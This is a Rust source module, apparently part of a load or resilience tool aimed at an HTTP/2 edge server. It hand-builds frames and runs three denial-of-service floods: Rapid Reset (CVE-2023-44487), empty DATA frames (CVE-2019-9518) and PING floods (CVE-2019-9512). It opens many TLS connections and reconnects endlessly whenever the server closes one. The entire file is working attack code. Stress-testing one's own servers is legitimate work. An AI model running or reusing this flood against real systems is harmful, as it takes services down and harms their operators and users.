//! Who floods an edge with frames of HTTP/2, written by hand. Whoever is shown out comes again.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{interval, sleep};
use tokio_rustls::TlsConnector;

use crate::visitors::{Visitors, connect, reach};

/// What is sent without end.
#[derive(Clone, Copy)]
pub(crate) enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    Resets,
    /// Parts of a body with nothing in them (CVE-2019-9518).
    Empty,
    /// Questions whether anybody is there (CVE-2019-9512).
    Pings,
}

/// Frames that are sent together.
const BATCH: u32 = 100;
/// So often: 64 connections send 64,000 frames a second.
const PAUSE: Duration = Duration::from_millis(100);
/// Who is shown out waits so long.
const AGAIN: Duration = Duration::from_millis(200);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub(crate) async fn be(flood: Flood, count: usize, at: SocketAddr, visitors: &Visitors) {
    let tls = visitors.tls(b"h2");
    let mut all = JoinSet::new();
    for n in 0..count {
        let (tls, name) = (tls.clone(), visitors.name.clone());
        all.spawn(async move {
            loop {
                // However it ended.
                let _ended = one(flood, n, &tls, at, &name).await;
                sleep(AGAIN).await;
            }
        });
    }
    while all.join_next().await.is_some() {}
}

async fn one(
    flood: Flood,
    n: usize,
    tls: &TlsConnector,
    at: SocketAddr,
    name: &str,
) -> std::io::Result<()> {
    let mut stream = connect(tls, reach(at, n).await?, name).await?;
    let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut begin, SETTINGS, 0, 0, &[]);
    if let Flood::Empty = flood {
        frame(&mut begin, HEADERS, END_HEADERS, 1, &head(name));
    }
    stream.write_all(&begin).await?;
    let (mut reading, mut writing) = tokio::io::split(stream);
    let write = async {
        let (mut stream, mut clock) = (1, interval(PAUSE));
        loop {
            clock.tick().await;
            let mut batch = Vec::new();
            for _ in 0..BATCH {
                match flood {
                    Flood::Resets => {
                        frame(&mut batch, HEADERS, END_HEADERS | END_STREAM, stream, &head(name));
                        // CANCEL
                        frame(&mut batch, RESET, 0, stream, &8_u32.to_be_bytes());
                        stream += 2;
                    }
                    Flood::Empty => frame(&mut batch, DATA, 0, 1, &[]),
                    Flood::Pings => frame(&mut batch, PING, 0, 0, &[7; 8]),
                }
            }
            writing.write_all(&batch).await?;
        }
    };
    let read = async {
        let mut taken = [0; 4_096];
        while reading.read(&mut taken).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        done = write => done,
        done = read => done,
    }
}

/// `GET /1k`, or the head of a request with a body: fields from the static table where there are.
fn head(name: &str) -> Vec<u8> {
    // `:method GET`, `:scheme https`; `:path` and `:authority` with values of their own.
    let mut head = vec![0x82, 0x87, 0x04, 3];
    head.extend_from_slice(b"/1k");
    head.extend_from_slice(&[0x01, u8::try_from(name.len()).unwrap()]);
    head.extend_from_slice(name.as_bytes());
    head
}

fn frame(to: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, body: &[u8]) {
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    to.extend_from_slice(&length[1..]);
    to.extend_from_slice(&[kind, flags]);
    to.extend_from_slice(&stream.to_be_bytes());
    to.extend_from_slice(body);
}
